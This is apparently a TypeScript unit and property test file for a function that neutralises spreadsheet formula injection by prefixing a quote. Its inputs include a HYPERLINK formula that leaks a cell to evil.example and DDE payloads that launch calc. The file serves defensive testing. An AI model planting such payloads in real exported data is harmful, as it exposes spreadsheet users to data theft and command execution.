import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { spreadsheetCell } from './spreadsheet-cell';

describe('a cell for a spreadsheet', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1+cmd|calc',
    '+49 30 1234',
    '-1+1',
    '-2-3',
    '-',
    '--1',
    '-.5',
    '-1.',
    '-1e5',
    '-1 =A1',
    '-12.50\n=A1',
    '-12\r',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\t',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('is no formula: %j', (text) => {
    expect(spreadsheetCell(text)).toBe(`'${text}`);
  });

  it.each(['', '-5', '-12.50', '0', '12', 'a=b', ' =1', "'=1", '1-1', 'Tent', 'a@b.example', '"=1"', ',=1'])(
    'stays as it is: %j',
    (text) => {
      expect(spreadsheetCell(text)).toBe(text);
    },
  );

  it('never begins like a formula unless it is a number, and loses nothing', () => {
    const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '1', '.', 'a', "'", ' ', ',', '"');
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: risky })), (text) => {
        const cell = spreadsheetCell(text);
        expect(cell.endsWith(text)).toBe(true);
        if (cell === text && /^[=+\-@\t\r\n]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
      }),
    );
  });
});
